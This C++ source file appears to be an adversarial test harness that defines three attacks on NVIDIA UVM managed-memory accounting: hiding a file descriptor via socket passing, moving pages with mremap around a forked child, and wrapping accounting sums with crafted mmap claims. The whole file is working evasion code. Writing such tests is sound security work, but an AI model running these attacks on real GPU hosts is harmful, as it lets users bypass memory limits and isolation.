// Attacks on how managed memory is recognised: what is hidden, moved away and back, or claimed in
// sums that wrap.
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <atomic>
#include <bit>
#include <limits>
#include <thread>
#include <vector>

#include "common.h"
#include "uvm_client.h"

namespace cgpu::adversary {
namespace {

constexpr std::uint64_t kHere = 0x100000000000;  // free in any process of ours
constexpr std::uint64_t kThere = 0x200000000000;
constexpr std::uint64_t kKept = 0x300000000000;
constexpr std::uint64_t kPage = 4096;

bool Move(std::uint64_t from, std::uint64_t to) {
  return mremap(std::bit_cast<void*>(from), kPage, kPage, MREMAP_MAYMOVE | MREMAP_FIXED,
                std::bit_cast<void*>(to)) != MAP_FAILED;
}

std::uint32_t CleanUp(const UvmClient& uvm) {
  std::uint32_t status = 0;
  return uvm.Ask(rm::UVM_CLEAN_UP_ZOMBIE_RESOURCES, &status);
}

// A memory query: whoever counts looks before it answers.
void Query(const UvmClient& uvm) {
  rm::NVOS32_PARAMETERS params{};
  params.hRoot = uvm.client.root;
  params.hObjectParent = Client::kDevice;
  params.function = rm::NVOS32_FUNCTION_INFO;
  (void)Plainly(uvm.client.ctl, rm::NV_ESC_RM_VID_HEAP_CONTROL, &params, sizeof(params));
}

// Sends an initialised file to itself until nobody knows it any more, maps on it and starts it
// anew: MIB.
int Forgotten(const std::vector<std::string>& args) {
  const std::uint64_t size = Number(args, 0, 6144) * kMiB;
  const std::uint64_t tries = Number(args, 1, std::numeric_limits<std::uint64_t>::max());
  UvmClient uvm = MakeUvmClient();
  close(uvm.uvm);
  uvm.uvm = open("/dev/nvidia-uvm", O_RDWR | O_CLOEXEC);
  int sockets[2];
  if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sockets) != 0 || uvm.Initialise() != 0) {
    Die("no file of nvidia-uvm");
  }
  bool known = true;
  for (std::uint64_t i = 0; i < tries && known; ++i) {
    SendFd(sockets[0], uvm.uvm);
    close(uvm.uvm);
    close(OpenControl());
    constexpr useconds_t kTime = 20'000;
    usleep(kTime);
    uvm.uvm = ReceiveFd(sockets[1]);
    known = CleanUp(uvm) == 0;
  }
  Say(known ? "known" : "forgotten");
  const bool mapped = MapManaged(uvm.uvm, kHere, size);
  (void)CleanUp(uvm);
  const std::uint32_t again = uvm.Initialise();
  Say("mapped %d, initialised 0x%x, registered 0x%x", mapped ? 1 : 0, again, uvm.RegisterGpu());
  Hold();
  return 0;
}

// A child maps SIZE at an address from which its parent has moved a page away, which it then moves
// back. The child does not end before the parent.
bool MapInChild(const UvmClient& parents, std::uint64_t size) {
  int done[2];
  if (pipe2(done, O_CLOEXEC) != 0) {
    Die("pipe2");
  }
  const pid_t child = fork();
  if (child == 0) {
    (void)prctl(PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0);
    (void)munmap(std::bit_cast<void*>(kThere), kPage);
    (void)munmap(std::bit_cast<void*>(kKept), 2 * kMiB);
    UvmClient own = parents;
    StartUvm(own);
    const char mapped = MapManaged(own.uvm, kHere, size) ? 'y' : 'n';
    (void)!write(done[1], &mapped, 1);
    while (true) {
      pause();
    }
  }
  char mapped = 'n';
  (void)!read(done[0], &mapped, 1);
  close(done[0]);
  close(done[1]);
  return mapped == 'y';
}

// COUNT times MIB.
int Moved(const std::vector<std::string>& args) {
  const std::uint64_t count = Number(args, 0, 12);
  const std::uint64_t size = Number(args, 1, 500) * kMiB;
  const UvmClient uvm = MakeUvmClient();
  if (!MapManaged(uvm.uvm, kKept, 2 * kMiB) || !MapManaged(uvm.uvm, kHere, kPage)) {
    Die("mmap");
  }
  Query(uvm);
  for (std::uint64_t i = 0; i < count; ++i) {
    if (!Move(kHere, kThere)) {
      Die("mremap");
    }
    Query(uvm);
    const bool mapped = MapInChild(uvm, size);
    if (!Move(kThere, kHere)) {
      Die("mremap back");
    }
    Query(uvm);
    Query(uvm);
    if (!mapped) {
      break;
    }
  }
  Hold();
  return 0;
}

// Returns the bytes that a claim counts for: blocks of 2 MiB, and four levels of page tables.
std::uint64_t Counted(std::uint64_t start, std::uint64_t end) {
  constexpr unsigned kBlock = 21;
  std::uint64_t bytes = (((end - 1) >> kBlock) - (start >> kBlock) + 1) << kBlock;
  for (const unsigned shift : {21U, 29U, 38U, 47U}) {
    bytes += (((end - 1) >> shift) - (start >> shift) + 1) * kPage;
  }
  return bytes;
}

// The ends of claims that add up to 64 bits less what `size` counts, but for some MiB.
std::vector<std::uint64_t> Ends(std::uint64_t size) {
  constexpr std::uint64_t kRest = 64 * kMiB;
  constexpr std::uint64_t kTop = std::uint64_t{1} << 56;
  std::uint64_t left = kRest - Counted(kHere, kHere + size);  // wraps, and is meant to
  std::vector<std::uint64_t> ends;
  while (left >= Counted(kPage, 2 * kPage)) {
    std::uint64_t low = 2 * kPage;
    std::uint64_t high = kTop;
    while (low < high) {
      const std::uint64_t middle = low + (high - low + 1) / 2;
      (Counted(kPage, middle) <= left ? low : high) =
          Counted(kPage, middle) <= left ? middle : middle - 1;
    }
    left -= Counted(kPage, low);
    ends.push_back(low);
  }
  return ends;
}

// Maps MIB while no GPU is registered, and has threads claim so much more that the sum wraps.
int Sums(const std::vector<std::string>& args) {
  const std::uint64_t size = Number(args, 0, 6144) * kMiB;
  UvmClient uvm = MakeUvmClient();
  close(uvm.uvm);
  uvm.uvm = open("/dev/nvidia-uvm", O_RDWR | O_CLOEXEC);
  if (uvm.Initialise() != 0 || !MapManaged(uvm.uvm, kHere, size)) {
    Say("nothing mapped");
    Hold();
    return 0;
  }
  (void)CleanUp(uvm);
  static std::atomic<std::size_t> claimed{0};
  static std::atomic<bool> over{false};
  const std::vector<std::uint64_t> ends = Ends(size);
  std::vector<std::thread> threads;
  threads.reserve(ends.size());
  for (const std::uint64_t end : ends) {
    threads.emplace_back([end] {
      const sched_param idle{};
      (void)sched_setscheduler(0, SCHED_IDLE, &idle);
      (void)syscall(SYS_mmap, kPage, end - kPage, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED,
                    -1, kPage);
      ++claimed;
      while (!over.load(std::memory_order_relaxed)) {
      }
    });
  }
  while (claimed < ends.size()) {
    sched_yield();
  }
  Say("registered 0x%x", uvm.RegisterGpu());
  over = true;
  for (std::thread& thread : threads) {
    thread.join();
  }
  Hold();
  return 0;
}

}  // namespace

std::vector<Entry> EvasionAttacks() {
  return {{"forgotten", Forgotten, "MIB [TRIES]"},
          {"moved", Moved, "COUNT MIB"},
          {"sums", Sums, "MIB"}};
}

}  // namespace cgpu::adversary
